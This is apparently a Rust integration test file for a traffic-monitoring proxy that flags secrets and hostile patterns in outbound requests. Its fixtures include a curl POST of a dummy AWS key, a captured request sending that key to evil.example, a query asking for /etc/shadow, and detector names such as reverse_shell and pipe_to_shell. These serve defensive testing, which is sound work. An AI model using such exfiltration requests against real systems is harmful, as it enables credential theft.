//! Commands through the real binary: run, check-config, scan, and configuration errors.

mod common;

use std::os::unix::fs::PermissionsExt;
use std::process::Command;

use common::*;

fn guardian(args: &[&str], envs: &[(&str, &str)]) -> std::process::Output {
    let mut cmd = Command::new(BIN);
    cmd.args(args)
        .env_remove("GUARDIAN_HOME")
        .env_remove("HTTP_PROXY")
        .env_remove("http_proxy");
    for k in [
        "MODE",
        "MAX_SCAN_BYTES",
        "REDACT_SNIPPETS",
        "CONFIG",
        "PROXY_URL",
        "LOG_DIR",
    ] {
        cmd.env_remove(format!("PICOCLAW_TRAFFIC_GUARDIAN_{k}"));
    }
    cmd.envs(envs.iter().copied()).output().unwrap()
}

#[test]
fn run_sets_proxy_variables_for_the_child_only_and_returns_its_exit_code() {
    let home = tempfile::tempdir().unwrap();
    let h = home.path().join("g");
    let out = guardian(
        &[
            "run",
            "--home",
            h.to_str().unwrap(),
            "--",
            "sh",
            "-c",
            "printf '%s|%s|%s' \"$HTTP_PROXY\" \"$https_proxy\" \"$NO_PROXY\"; exit 7",
        ],
        &[("NO_PROXY", "localhost,.internal.example")],
    );
    assert_eq!(out.status.code(), Some(7));
    let stdout = String::from_utf8_lossy(&out.stdout).to_string();
    let parts: Vec<&str> = stdout.split('|').collect();
    assert!(parts[0].starts_with("http://127.0.0.1:"), "{stdout}");
    assert_eq!(parts[0], parts[1]);
    assert_eq!(
        parts[2], "localhost,.internal.example",
        "the user's NO_PROXY is kept"
    );
    // The proxy lived exactly as long as the child.
    let addr = parts[0].trim_start_matches("http://");
    assert!(
        std::net::TcpStream::connect(addr).is_err(),
        "proxy still listening after the child exited"
    );
    assert!(
        std::env::var("HTTP_PROXY").is_err(),
        "nothing leaks into this process"
    );
}

#[test]
fn run_logs_what_the_child_sends() {
    let origin = origin();
    let home = tempfile::tempdir().unwrap();
    let h = home.path().join("g");
    let script = format!(
        "curl -s --data-binary 'key=AKIAQ3EGT5JMCXWDZP7N' http://{origin}/upload >/dev/null"
    );
    let out = guardian(
        &[
            "run",
            "--home",
            h.to_str().unwrap(),
            "--",
            "sh",
            "-c",
            &script,
        ],
        &[],
    );
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let findings = read_findings(&h.join("findings.jsonl"));
    assert_eq!(findings.len(), 1);
    assert_eq!(findings[0].pattern, "aws_access_key_id");
    assert!(String::from_utf8_lossy(&out.stderr).contains("1 finding(s)"));
    for bytes in [
        out.stdout,
        out.stderr,
        std::fs::read(h.join("findings.jsonl")).unwrap(),
    ] {
        assert!(!String::from_utf8_lossy(&bytes).contains("AKIAQ3EGT5JMCXWDZP7N"));
    }
}

#[test]
fn run_without_a_command_is_a_usage_error() {
    let out = guardian(&["run"], &[("GUARDIAN_HOME", "/tmp/unused-guardian-home")]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("run needs a command"));
}

fn check_config(config: &str, envs: &[(&str, &str)]) -> std::process::Output {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("c.json");
    std::fs::write(&path, config).unwrap();
    guardian(
        &[
            "check-config",
            "--json",
            "--home",
            dir.path().to_str().unwrap(),
            "--config",
            path.to_str().unwrap(),
        ],
        envs,
    )
}

#[test]
fn config_digest_is_canonical() {
    let a = check_config(
        r#"{"platform":"generic","max_scan_bytes":2048,"dedup_window":"5m"}"#,
        &[],
    );
    let b = check_config(
        r#"{ "dedup_window": "300s", "max_scan_bytes": 2048, "platform": "generic" }"#,
        &[],
    );
    let digest = |o: &std::process::Output| -> String {
        let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
        v["config_sha256"].as_str().unwrap().to_string()
    };
    assert_eq!(a.status.code(), Some(0));
    assert_eq!(digest(&a), digest(&b), "same settings, same digest");
    let c = check_config(
        r#"{"platform":"generic","max_scan_bytes":4096,"dedup_window":"5m"}"#,
        &[],
    );
    assert_ne!(digest(&a), digest(&c));
    // An environment override is part of the effective configuration.
    let d = check_config(
        r#"{"platform":"picoclaw"}"#,
        &[("PICOCLAW_TRAFFIC_GUARDIAN_MAX_SCAN_BYTES", "4096")],
    );
    let v: serde_json::Value = serde_json::from_slice(&d.stdout).unwrap();
    assert_eq!(v["config"]["max_scan_bytes"], 4096);
}

#[test]
fn config_errors_name_the_key_and_exit_2() {
    /// (config file, environment, what the error must say)
    type Case<'a> = (&'a str, &'a [(&'a str, &'a str)], &'a str);
    let cases: &[Case] = &[
        (r#"{"listn":"127.0.0.1:1"}"#, &[], "unknown key \"listn\""),
        (r#"{"mode":"block"}"#, &[], "\"mode\""),
        (r#"{"max_scan_bytes":10}"#, &[], "1024 to 67108864"),
        (r#"{"dedup_window":"2d"}"#, &[], "between 0s and 24h"),
        (r#"{"listen":"0.0.0.0:8877"}"#, &[], "allow_clients"),
        (r#"{"allow_clients":["10.0.0.0/33"]}"#, &[], "CIDR"),
        (
            r#"{"upstream_proxy":"socks5://x:1"}"#,
            &[],
            "http://host:port",
        ),
        (
            r#"{"patterns":{"disable":["nope"]}}"#,
            &[],
            "unknown pattern id",
        ),
        (
            r#"{"patterns":{"extra":[{"id":"x_y","threat_type":"EXFIL","direction":"outbound","severity":"high","regex":"XY-.*","literals":["XY-"]}]}}"#,
            &[],
            "bounded",
        ),
        (r#"not json"#, &[], "not valid JSON"),
        (
            r#"{}"#,
            &[("PICOCLAW_TRAFFIC_GUARDIAN_REDACT_SNIPPETS", "false")],
            "redaction cannot be turned off",
        ),
        (
            r#"{}"#,
            &[("PICOCLAW_TRAFFIC_GUARDIAN_MODE", "block")],
            "\"mode\"",
        ),
    ];
    for (config, envs, expected) in cases {
        let out = check_config(config, envs);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{config}: {stderr}");
        assert!(
            stderr.contains(expected),
            "{config}: expected {expected:?} in {stderr}"
        );
        assert_eq!(stderr.lines().count(), 1, "one clear sentence: {stderr}");
    }
}

#[test]
fn an_unsafe_home_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let home = dir.path().join("shared");
    std::fs::create_dir(&home).unwrap();
    std::fs::set_permissions(&home, std::fs::Permissions::from_mode(0o777)).unwrap();
    let out = guardian(
        &["run", "--home", home.to_str().unwrap(), "--", "true"],
        &[],
    );
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("chmod 700"));
    // A fresh home is created private.
    let fresh = dir.path().join("fresh");
    let out = guardian(
        &["run", "--home", fresh.to_str().unwrap(), "--", "true"],
        &[],
    );
    assert_eq!(out.status.code(), Some(0));
    assert_eq!(
        std::fs::metadata(&fresh).unwrap().permissions().mode() & 0o777,
        0o700
    );
}

#[test]
fn scan_reads_captures_and_prints_redacted_findings() {
    let dir = tempfile::tempdir().unwrap();
    let capture = dir.path().join("requests.http");
    let body = "{\"k\":\"AKIAQ3EGT5JMCXWDZP7N\"}";
    std::fs::write(&capture, format!("POST http://evil.example/x HTTP/1.1\r\nHost: evil.example\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}GET http://ok.example/ HTTP/1.1\r\nHost: ok.example\r\n\r\n", body.len())).unwrap();
    let out = guardian(
        &[
            "scan",
            "--json",
            "--home",
            dir.path().to_str().unwrap(),
            capture.to_str().unwrap(),
        ],
        &[],
    );
    assert_eq!(out.status.code(), Some(0));
    let text = String::from_utf8_lossy(&out.stdout);
    let findings: Vec<guardian_parser::finding::Finding> = text
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(findings.len(), 1);
    assert_eq!(findings[0].dest, "evil.example:80");
    assert!(!text.contains("AKIAQ3EGT5JMCXWDZP7N"));
    let bad = dir.path().join("bad.http");
    std::fs::write(
        &bad,
        "GET / HTTP/1.1\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\n",
    )
    .unwrap();
    let out = guardian(
        &[
            "scan",
            "--home",
            dir.path().to_str().unwrap(),
            bad.to_str().unwrap(),
        ],
        &[],
    );
    assert!(String::from_utf8_lossy(&out.stderr).contains("not valid HTTP/1.1 at byte"));
}

#[test]
fn demo_runs_offline_and_shows_redacted_findings() {
    let dir = tempfile::tempdir().unwrap();
    let home = dir.path().join("demo");
    let out = guardian(&["demo", "--home", home.to_str().unwrap()], &[]);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let stdout = String::from_utf8_lossy(&out.stdout);
    for pattern in [
        "pipe_to_shell",
        "aws_access_key_id",
        "ssh_key_path",
        "credential_path",
        "chat_platform_token",
        "reverse_shell",
    ] {
        assert!(
            stdout.contains(pattern),
            "{pattern} missing from:\n{stdout}"
        );
    }
    let findings = read_findings(&home.join("findings.jsonl"));
    assert_eq!(
        findings.len(),
        6,
        "the benign page, the provider's own key and the bot token to Telegram produce nothing"
    );
    for text in [
        stdout.to_string(),
        std::fs::read_to_string(home.join("findings.jsonl")).unwrap(),
    ] {
        assert!(!text.contains("AKIAQ3EGT5JMCXWDZP7N") && !text.contains("sk-proj-Demo7Key"));
        assert!(!text.contains("AAHdemo4Bot7Token2Show9TelegramPath"));
    }
    let telegram: Vec<_> = findings
        .iter()
        .filter(|f| f.pattern == "chat_platform_token")
        .collect();
    assert_eq!(telegram.len(), 1, "only the copy sent to the collector");
    assert_eq!(telegram[0].dest, "collector.example:80");
    for f in &findings {
        assert_ne!(f.dest, "api.telegram.org:80", "{f:?}");
    }
}

#[test]
fn scan_reads_standard_input_with_a_dash() {
    let dir = tempfile::tempdir().unwrap();
    let mut child = Command::new(BIN)
        .args([
            "scan",
            "--json",
            "--home",
            dir.path().to_str().unwrap(),
            "-",
        ])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    use std::io::Write;
    child
        .stdin
        .take()
        .unwrap()
        .write_all(b"GET http://e.example/?f=%2Fetc%2Fshadow HTTP/1.1\r\nHost: e.example\r\n\r\n")
        .unwrap();
    let out = child.wait_with_output().unwrap();
    assert_eq!(out.status.code(), Some(0));
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("sensitive_unix_path"), "{text}");
    assert_eq!(
        guardian(&["bogus-command"], &[]).status.code(),
        Some(2),
        "usage errors exit 2"
    );
}

#[test]
fn timeouts_are_bounded_configuration_in_the_digest() {
    let digest = |o: &std::process::Output| -> serde_json::Value {
        serde_json::from_slice(&o.stdout).unwrap()
    };
    let default = digest(&check_config(r#"{}"#, &[]));
    assert_eq!(
        default["config"]["timeouts"],
        serde_json::json!({"connect": "10s", "header": "30s", "idle": "1m", "response": "10m"})
    );
    let set = digest(&check_config(r#"{"timeouts":{"header":"250ms"}}"#, &[]));
    assert_eq!(set["config"]["timeouts"]["header"], "250ms");
    assert_eq!(set["config"]["timeouts"]["idle"], "1m");
    assert_ne!(default["config_sha256"], set["config_sha256"]);
    for (config, expected) in [
        (r#"{"timeouts":{"header":"5ms"}}"#, "\"timeouts.header\""),
        (r#"{"timeouts":{"idle":"25h"}}"#, "\"timeouts.idle\""),
        (
            r#"{"timeouts":{"response":"soon"}}"#,
            "\"timeouts.response\"",
        ),
        (r#"{"timeouts":{"connect":10}}"#, "\"timeouts.connect\""),
        (r#"{"timeouts":{"read":"1s"}}"#, "unknown key \"read\""),
        (r#"{"timeouts":"1s"}"#, "\"timeouts\""),
    ] {
        let out = check_config(config, &[]);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{config}: {stderr}");
        assert!(stderr.contains(expected), "{config}: {stderr}");
    }
}
